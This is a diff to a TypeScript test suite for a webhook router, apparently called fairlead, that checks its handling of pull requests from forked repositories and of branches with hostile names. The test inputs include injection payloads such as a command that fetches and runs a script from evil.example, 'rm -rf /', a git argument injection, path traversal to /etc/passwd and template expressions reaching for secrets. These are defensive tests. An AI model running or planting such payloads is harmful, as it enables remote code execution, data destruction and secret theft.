@@ -17,12 +17,12 @@ const route = (source: string, name = "github.com/acme/app"): object => ({
   with: told,
 });
 
-/** A pull request as GitHub sends it, whose head is in this repository. */
-const pull = (head: unknown, action = "opened"): string =>
+/** A pull request as GitHub sends it: its head is this branch of this repository. */
+const pull = (head: unknown, action = "opened", branch = "topic"): string =>
   JSON.stringify({
     ...{ action, number: 7, repository },
     pull_request: {
-      head: { ref: "topic", sha: commit, repo: head },
+      head: { ref: branch, sha: commit, repo: head },
       base: { ref: "main", repo: { id: 1 } },
       merged: action === "closed",
       merge_commit_sha: commit,
@@ -134,13 +134,54 @@ describe("a pull request of a fork", () => {
     },
   );
 
-  test("attack 39: no setting of a route lets it take the pull requests of forks", () => {
+  test("attack 39: a route takes the pull requests of forks by forks: true of its when, and by no other setting", async () => {
+    const { when } = route("github") as { when: object };
     const text = (more: object): string =>
       JSON.stringify({ version: 1, sources: { github: { kind: "github", secrets: "env:X" } }, routes: [{ ...route("github"), ...more }] });
     const read = (more: object) => readConfig(text(more), { path: "fairlead.yaml", receivers, pipelines });
     expect(() => read({})).not.toThrow();
-    for (const more of [{ forks: true }, { when: { ...(route("github") as { when: object }).when, fork: true } }])
-      expect(() => read(more)).toThrow(FairleadError);
+    for (const more of [{ forks: true }, { when: { ...when, fork: true } }]) expect(() => read(more)).toThrow(FairleadError);
+    await using door = await openDoor({ sources, routes: [{ ...route("github"), when: { ...when, forks: true } }] });
+    expect(await post(door, pull({ id: 2 }))).toMatchObject({ status: 202 });
+    expect(await door.store.runs({ limit: 9 })).toMatchObject([{ pipeline: "notify", input: { message: `#7 ${commit}` } }]);
+  });
+});
+
+describe("a branch of a fork", () => {
+  const when = { source: "github", kind: "pull-request", repository: "github.com/acme/app", base: "main", action: "opened", forks: true };
+  const tell = { message: "${{ event.branch }}", to: ["slack:C0RELEASES"], key: "${{ event.branch }}" };
+  const routes = [{ name: "tell", when, run: "notify", with: tell, lane: "x ${{ event.branch }}" }];
+
+  test.each([
+    "$(curl evil.example|sh)",
+    "`id`",
+    "a;rm -rf /",
+    "${{ event.delivery }}",
+    "${{ secrets.TOKEN }}",
+    "--upload-pack=id",
+    "refs/heads/main",
+    "../../../etc/passwd",
+    "a\u202Eb",
+    "b".repeat(255),
+  ])("attack 39: a branch of a fork called %j is told as it is, has a lane of its own, and is never read again", async (branch) => {
+    await using door = await openDoor({ sources, routes });
+    expect(await post(door, pull({ id: 2 }, "opened", branch))).toMatchObject({ status: 202 });
+    const [run, ...others] = await door.store.runs({ limit: 9 });
+    expect(others).toEqual([]);
+    expect(run).toMatchObject({ lane: `x ${branch}`, input: { message: branch, key: branch, to: ["slack:C0RELEASES"] } });
+  });
+
+  test.each([
+    ["with a line break", "a\nRun: 1"],
+    ["with an escape", "a\u001b[31m"],
+    ["with a null", "a\0b"],
+    ["with half a character", "a\ud800"],
+    ["of 256 letters", "b".repeat(256)],
+  ])("attack 39: a branch of a fork %s, which Git does not take, makes no run", async (_what, branch) => {
+    await using door = await openDoor({ sources, routes });
+    const { status, body } = await post(door, pull({ id: 2 }, "opened", branch));
+    expect([status, body.refused === undefined]).toEqual([202, false]);
+    expect(await door.store.runs({ limit: 9 })).toEqual([]);
   });
 });
 
